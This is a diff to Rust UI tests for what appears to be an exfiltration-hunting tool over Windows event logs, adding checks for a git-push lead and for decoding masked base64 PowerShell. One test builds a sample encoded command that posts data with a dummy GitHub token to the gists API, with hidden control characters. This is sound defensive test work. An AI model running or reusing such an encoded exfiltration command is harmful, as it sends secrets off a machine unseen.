@@ -10,7 +10,10 @@
 use std::path::Path;
 use std::sync::{Arc, Mutex};
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use exfilscope::detect::exception::Exceptions;
+use exfilscope::detect::hunt::hosts::RepositoryHosts;
 use exfilscope::detect::pattern::Patterns;
 use exfilscope::detect::profile::Profile;
 use exfilscope::model::batch::{Batch, EventHead, SourceId};
@@ -63,7 +66,9 @@ fn empty(colors: ColorSupport, ascii: bool) -> App {
         case: Some("case.ndjson".to_owned()),
         keeper: None,
     };
-    App::new(Store::new(HostNaming::Computer, Retention::Everything), settings, Arc::new(Progress::default()))
+    let mut store = Store::new(HostNaming::Computer, Retention::Everything);
+    store.hunt(RepositoryHosts::default());
+    App::new(store, settings, Arc::new(Progress::default()))
 }
 
 fn feed(app: &mut App, messages: impl IntoIterator<Item = FeedMessage>) {
@@ -232,7 +237,8 @@ fn screens_are_as_they_were_looked_at() {
         ("workbench_typed", "2|ws-4711\t\t"),
         ("workbench_with_a_fault", "2(?!a)"),
         ("range", "\tv"),
-        ("spl", "p"),
+        ("hunt", "p/signal:GitPushSendPack\n"),
+        ("spl", "pp"),
         ("coverage", "3"),
         ("verdict", "d"),
         ("decided", "dmjdujNcalled him\njjdbn"),
@@ -325,6 +331,62 @@ fn joined_fields_and_faults_have_colours_of_their_own() {
     let buffer = at(&mut app, (120, 40));
     let (column, row) = find(&buffer, "add `)`");
     assert!(looks(&app, style_at(&buffer, (column, row)), Token::Error));
+}
+
+#[test]
+fn a_lead_is_listed_explained_and_coloured_as_one() {
+    for size in SIZES {
+        let mut app = four_tests();
+        at(&mut app, size);
+        press(&mut app, "p/signal:GitPush\nj");
+        let buffer = at(&mut app, size);
+        let name = if size.0 >= 160 { "GitPushSendPack" } else { "snd-pack" };
+        assert!(looks(&app, style_at(&buffer, find(&buffer, name)), Token::SignalLead), "{size:?}");
+    }
+    let mut app = four_tests();
+    at(&mut app, (120, 40));
+    press(&mut app, "p/signal:GitPushSendPack\n\t\tz");
+    let buffer = at(&mut app, (120, 40));
+    let (column, row) = find(&buffer, "Evidence  git was told to push without naming a URL");
+    assert!(looks(&app, style_at(&buffer, (column + 10, row)), Token::Joined), "{}", text(&buffer));
+    for part in ["[Event 1 record 48284 of four-tests.evtx]", "[Event 22 record", "[Event 3 record"] {
+        find(&buffer, part);
+    }
+    press(&mut app, "\x1b\x1b\x1bp");
+    assert!(!text(&at(&mut app, (120, 40))).contains("snd-pack"), "spl knows of no lead");
+}
+
+#[test]
+fn a_script_in_base64_is_shown_decoded_masked_and_harmless_in_every_profile() {
+    let script = "irm https://api.github.com/gists -Method Post -Headers @{Authorization='token ghp_0123456789abcdefABCDEF0123456789abcd'} # \u{202e}\x1b[31m";
+    let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let line = format!("powershell.exe -NoP -e {}", STANDARD.encode(units));
+    let fields = [
+        (Field::Computer, "WS-1"),
+        (Field::Image, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
+        (Field::CommandLine, line.as_str()),
+    ];
+    let mut batch = Batch::new(SourceId(0));
+    let head = EventHead {
+        event_code: 1,
+        time: None,
+        record_id: Some(1),
+        place: 1,
+        process_guid: None,
+        parent_process_guid: None,
+    };
+    batch.push(head, fields);
+    let mut app = empty(ColorSupport::Ansi16, false);
+    feed(&mut app, [FeedMessage::Batch(batch)]);
+    at(&mut app, (120, 40));
+    press(&mut app, "p");
+    let picture = text(&at(&mut app, (120, 40)));
+    assert!(picture.contains("enc-up"), "{picture}");
+    let decoded = picture.split("Decoded").nth(1).unwrap_or_else(|| panic!("{picture}"));
+    for part in ["irm https://api.github.com/gists", "ghp_****", "<U+202E>"] {
+        assert!(decoded.contains(part), "{part}: {decoded}");
+    }
+    assert!(!picture.contains("0123456789abcdefABCDEF") && !picture.contains('\u{202e}'), "{picture}");
 }
 
 #[test]
